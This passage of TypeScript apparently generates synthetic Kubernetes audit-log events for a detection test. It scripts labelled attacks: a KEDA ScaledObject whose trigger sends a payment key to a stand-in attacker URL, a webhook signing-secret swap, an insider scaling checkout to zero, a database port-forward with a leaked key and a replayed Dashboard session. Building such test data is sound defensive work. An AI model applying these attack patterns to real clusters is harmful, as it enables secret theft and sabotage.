  const pc: Login = { sub: ic1.name, sid: `${ic1.name}:war-room-pc`, authTime: Math.floor((icMorning.at - 10 * S) / 1000), acr: 'urn:stepgate:aal2' };
  add("the war room's observer: the incident commander's kubeconfig on the wall-screen PC, used for the payments admin port through the service proxy", T(14.33), WAR_ROOM_PC, KUBECTL('windows/amd64'), pc, on(API, [
    ['GET', '/api/v1/namespaces/prod-payments/services', false],
    ['GET', '/api/v1/namespaces/prod-payments/services/http:payments-api:8081/proxy/actuator/env', true],
    ['POST', '/api/v1/namespaces/prod-payments/services/http:payments-api:8081/proxy/actuator/restart', true, JSON_CT, '{}'],
    ['POST', '/api/v1/namespaces/prod-payments/pods/payments-api-6f4c8-h2x9q/exec?command=sh&container=api&stdin=true&stdout=true&tty=true', true],
  ]), 15 * S, ic1);
  for (const [i, path] of ['/api/v1/pods?limit=500', '/api/v1/events?limit=500&fieldSelector=type%3DWarning', `${HPA}/horizontalpodautoscalers?limit=500`].entries()) {
    out.push({ ...icMorning, at: icMorning.at + 30 * S + i * 40 * M, ip: WAR_ROOM_PC, ua: KUBECTL('windows/amd64'), login: pc, method: 'GET', path });
  }

  // 5. Malware on sre-1's laptop at 12:10: a ScaledObject in prod-catalog (where the SRE edits
  // ScaledObjects every day) whose metrics-api trigger authenticates with the platform's
  // ClusterTriggerAuthentication for the PSP's reporting API: KEDA sends that key as a bearer
  // token to the attacker's URL every 30 s.
  const sre1 = by('sre-1');
  const v5 = lastScoredOf(routine, sre1.name, T(12.16), kubectlOf);
  add("a KEDA ScaledObject whose metrics-api trigger sends the PSP's key (a ClusterTriggerAuthentication) to the attacker (SRE laptop)", T(12.16), v5.ip, v5.ua, v5.login, on(API, [
    ['GET', `${KEDA}/namespaces/prod-catalog/scaledobjects/catalog-api`, false],
    ['PATCH', `${KEDA}/namespaces/prod-catalog/scaledobjects/catalog-api?fieldManager=kubectl-client-side-apply&fieldValidation=Strict`, true, MERGE, JSON.stringify(exfilScaledObject('prod-catalog', 'catalog-api', 'https://metrics.basketry-cdn.example/v1/queue'))],
  ]), 5 * S, sre1);

  // 6. An insider (checkout-3, leaving after a dispute) at 16:30, the evening peak: checkout's HPA
  // floor and ceiling set to one, then checkout scaled to zero, cart too. Signs in when asked.
  const c3 = by('checkout-3');
  const v6 = lastScoredOf(routine, c3.name, T(16.5), kubectlOf);
  add('insider scales checkout to zero at the evening peak (HPA and Deployments)', T(16.5), v6.ip, v6.ua, v6.login, on(API, [
    ['GET', `${HPA}/namespaces/prod-checkout/horizontalpodautoscalers`, false],
    ['PATCH', `${HPA}/namespaces/prod-checkout/horizontalpodautoscalers/checkout-web?fieldManager=kubectl-patch`, true, MERGE, JSON.stringify({ spec: { minReplicas: 1, maxReplicas: 1 } })],
    ['PATCH', '/apis/apps/v1/namespaces/prod-checkout/deployments/checkout-web/scale?fieldManager=kubectl-scale', true, MERGE, JSON.stringify({ spec: { replicas: 0 } })],
    ['PATCH', '/apis/apps/v1/namespaces/prod-checkout/deployments/checkout-api/scale?fieldManager=kubectl-scale', true, MERGE, JSON.stringify({ spec: { replicas: 0 } })],
    ['PATCH', '/apis/apps/v1/namespaces/prod-checkout/deployments/cart/scale?fieldManager=kubectl-scale', true, MERGE, JSON.stringify({ spec: { replicas: 0 } })],
  ]), 8 * S);
  for (const e of out) if (e.attack?.startsWith('insider scales checkout')) e.signsIn = true;

  // 7. Malware on payments-1's laptop at 11:20, 40 minutes after the real rotation: the webhook
  // signing key replaced with the attacker's (forged "payment captured" webhooks then verify).
  const pay1 = by('payments-1');
  const v7 = lastScoredOf(routine, pay1.name, T(11.33), kubectlOf);
  add("the PSP webhook's signing Secret swapped for the attacker's key, 40 minutes after the real rotation (payments laptop)", T(11.33), v7.ip, v7.ua, v7.login, on(API, [
    ['GET', '/api/v1/namespaces/prod-payments/secrets/psp-webhook', true],
    ['PATCH', '/api/v1/namespaces/prod-payments/secrets/psp-webhook?fieldManager=kubectl-patch', true, MERGE, JSON.stringify({ data: { 'signing-key': 'd2hzZWNfYXR0YWNrZXJfY29udHJvbGxlZA==' } })],
  ]), 30 * S, pay1);

  // 8. A device joined to the tailnet with an auth key leaked from a Terraform state file, at
  // 19:40, with payments-2's kubelogin cache (an infostealer's copy): a port-forward to the
  // payments database.
  const pay2 = by('payments-2');
  const v8 = lastScoredOf(routine, pay2.name, T(16), kubectlOf);
  add("a tailnet device joined with a leaked auth key: the DBA's copied token port-forwarding to the payments database", T(19.66), '100.97.12.4', v8.ua, v8.login, on(API, [
    ['GET', '/api/v1/namespaces/prod-payments/pods/pg-payments-0', false],
    ['GET', '/api/v1/namespaces/prod-payments/pods/pg-payments-0/portforward?ports=5432', true, WS_UPGRADE],
  ]), 4 * S, pay2);

  // 9. ic-2's Kubernetes Dashboard session (its bearer token in the browser's storage, taken by a
  // malicious extension) replayed at 20:15 from another tailnet device: the PSP's Secret.
  const ic2 = by('ic-2');
  const v9 = lastScoredOf(routine, ic2.name, T(20.25), (x) => x.host === DASHBOARD);
  add("the US incident commander's Dashboard session replayed from another tailnet device, reading the PSP's Secret", T(20.25), '100.71.203.9', v9.ua, v9.login, on(DASHBOARD, [
    ['GET', '/api/v1/secret/prod-payments?itemsPerPage=50&page=1', true, BROWSER],
    ['GET', '/api/v1/secret/prod-payments/psp-webhook', true, BROWSER],
  ]), 6 * S, ic2);
  return out;
}
